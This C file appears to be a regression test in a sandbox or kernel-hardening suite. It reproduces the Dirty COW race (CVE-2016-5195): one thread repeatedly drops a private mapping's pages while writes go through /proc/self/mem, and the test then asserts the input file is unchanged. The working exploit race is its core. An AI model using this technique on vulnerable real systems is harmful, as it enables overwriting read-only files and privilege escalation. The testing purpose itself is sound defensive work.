/* SPDX-License-Identifier: MIT */
/* Tries: to write into a private mapping of an input through /proc/self/mem while another thread
 * drops its pages.
 * Must be seen: the input's bytes are what they were, inside and outside.
 * Known from: CVE-2016-5195 (Dirty COW). */
#include "../attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum { ROUNDS = 3000 };

static void *
drop(void *map)
{
	for (int i = 0; i < ROUNDS; i++) {
		madvise(map, 4096, MADV_DONTNEED);
	}
	return NULL;
}

ATTACK()
{
	char now[16] = "";
	pthread_t thread;
	int fd = open("/brun/file", O_RDONLY);
	int memory = open("/proc/self/mem", O_RDWR);
	char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);

	must_be(fd >= 0 && map != MAP_FAILED, "an input can be mapped");
	must_be(pthread_create(&thread, NULL, drop, map) == 0, "a thread starts");
	for (int i = 0; memory >= 0 && i < ROUNDS; i++) {
		(void)!pwrite(memory, "VANDAL", 6, (off_t)(size_t)map);
	}
	pthread_join(thread, NULL);
	must_be(pread(fd, now, 9, 0) == 9 && strcmp(now, "precious\n") == 0,
		"the input is what it was");
}
